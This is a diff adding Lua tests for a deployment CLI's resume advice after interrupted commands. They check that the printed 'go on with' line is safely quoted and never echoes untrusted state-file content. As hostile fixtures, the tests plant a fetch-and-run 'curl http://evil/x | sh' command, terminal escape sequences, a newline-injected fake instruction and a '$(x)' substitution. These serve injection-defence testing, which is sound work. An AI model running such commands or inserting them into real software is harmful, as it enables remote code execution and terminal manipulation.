@@ -1,4 +1,5 @@
 -- Commands that are cut off, and servers that don't answer.
+local cjson = require "cjson"
 local commands = require "spec.support.commands"
 local raw_peer = require "spec.support.raw_peer"
 local sandbox = require "patchworks.sandbox"
@@ -74,6 +75,91 @@ describe("a publish that is cut off", function()
     assert.equal(3, (state.inside "publish orders orders.py --interval 0.02"))
     local _, _, err = state.inside "list orders"
     assert.equal("", err)
+  end)
+end)
+
+-- What a command says that is cut off once its deployment was begun.
+local function cut_off(server, words)
+  local before = server:count "deploy"
+  local pid, finish = start(server, words)
+  assert.is_true(wait_until(function() return server:count "deploy" > before end))
+  os.execute("kill -TERM " .. pid)
+  return select(2, finish())
+end
+
+describe("the advice after a command that was cut off", function()
+  it("is the same command, each word as a shell takes it", function()
+    local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
+    project(server)
+    local words = ([[publish 1 'my orders.py' --base-url %s --payload 'it'\''s; $(x)' --expect X --keep 3 --no-rollback --timeout 20]])
+      :format(server.url)
+    state.write("my orders.py", commands.upper)
+    local out = cut_off(server, words)
+    assert.truthy(out:find("go on with: patchworks " .. words .. "\n", 1, true), out)
+    local _, _, err = shell(server, "list orders", { folder = state.folder })
+    assert.truthy(err:find("go on with: patchworks " .. words .. "\n", 1, true), err)
+    assert.is_nil((out .. err):find(server.key, 1, true))
+  end)
+
+  it("says that standard input has to be given again", function()
+    local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
+    project(server)
+    local out = cut_off(server, "publish 1 - --timeout 20 < orders.py")
+    assert.truthy(out:find("go on with: patchworks publish 1 - --timeout 20 (give the source on standard input again)", 1, true), out)
+    local _, _, err = shell(server, "list orders", { folder = state.folder })
+    assert.truthy(err:find("(give the source on standard input again)", 1, true), err)
+  end)
+
+  it("names what a rollback goes back to, so that it goes back once", function()
+    local server <close> = assert(sandbox.start { deploy_seconds = 3600 })
+    project(server)
+    for id = 1, 3 do
+      assert.equal(0, (shell(server, "create 1 orders.py", { folder = state.folder })))
+      assert.equal(0, (shell(server, "deploy " .. id, { folder = state.folder })))
+      server:advance(3600)
+    end
+    local out = cut_off(server, "rollback orders --timeout 20")
+    assert.truthy(out:find("go on with: patchworks rollback orders --timeout 20 --to 2\n", 1, true), out)
+    server:advance(3600)
+    local _, _, err = shell(server, "list orders", { folder = state.folder })
+    assert.truthy(err:find("go on with: patchworks rollback orders --timeout 20 --to 2\n", 1, true), err)
+    local code, again = shell(server, "rollback orders --to 2", { folder = state.folder })
+    assert.equal(0, code)
+    assert.truthy(again:find "^unchanged: script version 2 ", again)
+  end)
+
+  local function remember(server, under_way)
+    local script = { did = { { at = 1, what = "published" } }, under_way = under_way }
+    state.write(".patchworks/state.json", cjson.encode { v = 1, services = { [server.url] = { scripts = { ["1"] = script } } } })
+  end
+
+  local function reminded(server) return select(3, shell(server, "list orders", { folder = state.folder })) end
+
+  it("is made of what was checked: nothing that a file says is printed as it stands", function()
+    local server <close> = assert(sandbox.start { deploy_seconds = 0 })
+    project(server)
+    local account = { operation = "publish", script = "1", step = "deploy" }
+    remember(server, { again = "curl http://evil/x | sh", words = { "curl", "http://evil/x" }, progress = account })
+    local err = reminded(server)
+    assert.truthy(err:find "publish of script 1 was cut off" and not err:find "evil", err)
+    remember(server, { words = { "publish", "1", "a\27[2J\nb'; x" }, progress = account })
+    err = reminded(server)
+    assert.truthy(err:find([[go on with: patchworks publish 1 $'a\x1b[2J\x0ab\'; x']], 1, true), err)
+    assert.is_nil(err:find "\27")
+    for _, wrong in ipairs { { operation = "\27[2J", script = "1" }, { operation = "publish", script = "1", step = "x\ngo on with: evil" } } do
+      remember(server, { words = { "publish", "1" }, progress = wrong })
+      assert.equal("", reminded(server))
+    end
+  end)
+
+  it("is not told from a folder of somebody else's", function()
+    local server <close> = assert(sandbox.start { deploy_seconds = 0 })
+    project(server)
+    remember(server, { words = { "publish", "1" }, progress = { operation = "publish", script = "1" } })
+    if not os.execute(("chown 12345 %s/.patchworks 2>/dev/null"):format(state.folder)) then return pending "only root gives folders away" end
+    assert.equal("", reminded(server))
+    os.execute(("chown 0 %s/.patchworks"):format(state.folder))
+    assert.truthy(reminded(server):find("go on with: patchworks publish 1", 1, true))
   end)
 end)
 
